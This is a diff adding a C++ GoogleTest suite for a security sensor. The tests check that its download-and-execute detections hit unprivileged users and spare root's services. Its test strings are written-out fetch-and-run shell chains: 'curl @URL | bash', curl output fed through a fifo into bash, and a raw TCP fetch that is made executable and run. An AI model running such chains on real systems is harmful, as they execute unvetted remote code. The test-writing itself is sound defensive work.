@@ -1,0 +1,111 @@
+// SPDX-License-Identifier: Apache-2.0
+// Whom a user cannot make the sensor hit (docs/threat-model.md, rules/reach.h): processes of root
+// that took no part by their own doing. Each case has the same act by one user alone beside it, in
+// the tests of the detections: there all of them pay.
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "chain_site.h"
+#include "image_site.h"
+
+namespace davylamp::test {
+namespace {
+
+using testing::Contains;
+
+// Who is not root.
+const char* const kUser = "setpriv --reuid=65534 --regid=65534 --clear-groups";
+
+class OtherUsers : public testing::TestWithParam<Mode> {
+protected:
+    GuardResult run(ChainSite& site, const std::string& command)
+    {
+        return run_guard(GetParam(),
+                         replaced(site.fill("chmod 1777 @D; " + command), "@USER", kUser));
+    }
+};
+
+// A user finds the fifo that root's service writes, and reads it as code. The service goes on, and
+// its connection too; the user's shell does not.
+TEST_P(OtherUsers, WhoReadsAFifoOfRootsAsCodePaysAlone)
+{
+    ChainSite site;
+    GuardResult result =
+        run(site,
+
+            "mkfifo -m 644 @D/f; exec 9<> @D/f; (exec 9>&-; exec @USER bash < @D/f) & "
+            "until [ -d /proc/$! ] && grep -q bash /proc/$!/comm; do sleep 0.01; done; sleep 0.2; "
+            "curl -s @URL > @D/f; echo $? > @D/status; sleep 0.3; exec 9>&-; wait");
+    SCOPED_TRACE(result.out + result.err);
+    EXPECT_THAT(result.codes(), Contains("CHAIN-001"));
+    EXPECT_EQ(slurp(site.folder / "status"), "0\n") << "root's download was hit";
+    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
+}
+
+// A stage of root's in a user's pipeline: the pipeline is stopped, the stage is not signalled.
+TEST_P(OtherUsers, AStageOfRootsInAUsersPipelineLives)
+{
+    ChainSite site;
+    GuardResult result = run(
+        site, "mkfifo -m 666 @D/in @D/out; exec 8<> @D/in 9<> @D/out; "
+              "(exec cat < @D/in > @D/out 8>&- 9>&-) & stage=$!; "
+              "(exec @USER bash < @D/out 8>&- 9>&-) & sleep 0.3; "
+              "(exec @USER curl -s @URL > @D/in); sleep 0.5; "
+              "[ -d /proc/$stage ] && echo alive > @D/status; kill $stage; exec 8>&- 9>&-; wait");
+    SCOPED_TRACE(result.out + result.err);
+    EXPECT_THAT(result.codes(), Contains("CHAIN-001"));
+    EXPECT_EQ(slurp(site.folder / "status"), "alive\n");
+    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
+}
+
+// A user runs a file that root's service fetched. He pays, the service does not.
+TEST_P(OtherUsers, WhoRunsWhatRootFetchedPaysAlone)
+{
+    ChainSite site;
+    GuardResult result =
+        run(site, "(exec 3<> @TCP; @GET >&3; (sed '1,/^.$/d' <&3 > @D/f; chmod 755 @D/f; "
+                  "touch @D/fetched); "
+                  "until [ -e @D/ran ]; do sleep 0.01; done; echo alive > @D/status) & "
+                  "until [ -e @D/fetched ]; do sleep 0.01; done; "
+                  "@USER bash @D/f; sleep 0.2; touch @D/ran; wait");
+    SCOPED_TRACE(result.out + result.err);
+    EXPECT_THAT(result.codes(), Contains("CHAIN-003"));
+    EXPECT_EQ(slurp(site.folder / "status"), "alive\n");
+    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
+}
+
+// Root runs a program that lies in a user's folder, and the user removes it. Root's process lives,
+// it may connect and start programs, and no sweep ends it.
+TEST_P(OtherUsers, WhoseImageAUserTakesAwayLives)
+{
+    ChainSite site;
+    GuardResult result =
+        run(site, "mkdir @D/own; cp /bin/bash @D/own/service; chown 65534 @D/own; "
+                  "@D/own/service -c 'touch @D/up; until [ -e @D/removed ]; do sleep "
+                  "0.01; done; sleep 3; "
+                  "exec 3<> @TCP && /bin/true && echo alive > @D/status' & "
+                  "until [ -e @D/up ]; do sleep 0.01; done; @USER rm -f @D/own/service; "
+                  "touch @D/removed; "
+                  "wait");
+    SCOPED_TRACE(result.out + result.err);
+    Finding finding = result.first("EXE-002");
+    EXPECT_EQ(slurp(site.folder / "status"), "alive\n");
+    EXPECT_EQ(exists(site.folder / "own/service"), finding.did("refuse"));
+    bool spared = GetParam() != Mode::monitor && !finding.did("refuse");
+    EXPECT_EQ(finding.json.dump().find("left_alive") != std::string::npos, spared);
+}
+
+// What it does itself convicts root as it convicts everybody: `curl … | sudo bash`.
+TEST_P(OtherUsers, RootPaysForWhatItReadsItself)
+{
+    ChainSite site;
+    GuardResult result = run(site, "@USER curl -s @URL | bash");
+    EXPECT_THAT(result.codes(), Contains("CHAIN-001")) << result.out;
+    EXPECT_EQ(exists(site.marker()), GetParam() == Mode::monitor);
+}
+
+INSTANTIATE_TEST_SUITE_P(Live, OtherUsers, testing::Values(Mode::monitor, Mode::block, Mode::kill),
+                         testing::PrintToStringParamName());
+
+} // namespace
+} // namespace davylamp::test
